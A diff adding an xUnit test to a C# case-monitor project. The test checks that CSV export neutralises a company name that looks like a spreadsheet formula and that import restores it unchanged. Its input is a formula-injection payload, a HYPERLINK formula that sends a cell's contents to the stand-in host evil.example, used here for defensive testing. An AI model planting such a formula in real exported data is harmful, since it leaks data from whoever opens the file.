@@ -148,6 +148,23 @@ public sealed class MonitorTest
     }
 
     [Fact]
+    public void A_company_name_that_looks_like_a_formula_is_exported_as_text_and_imported_unchanged()
+    {
+        const string attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        var cases = MonitorSeed.Cases.Take(2).Select((c, i) => i == 0 ? c with { CompanyName = attack } : c with { CompanyName = "-Minus Corp" }).ToList();
+        using var csv = new MemoryStream();
+        MonitorExport.WriteCasesCsv(csv, cases);
+        var text = Encoding.UTF8.GetString(csv.ToArray());
+        Assert.DoesNotContain(",=HYPERLINK", text);
+        Assert.DoesNotContain(",\"=HYPERLINK", text);
+        Assert.Contains("'=HYPERLINK", text);
+        csv.Position = 0;
+        var r = MonitorImport.ParseCsv(csv, En);
+        Assert.True(r.Succeeded, string.Join("; ", r.Errors));
+        Assert.Equal([attack, "-Minus Corp"], r.Cases.Select(c => c.CompanyName));
+    }
+
+    [Fact]
     public void Export_round_trips_through_import_csv_and_xlsx()
     {
         var seed = MonitorSeed.Cases;
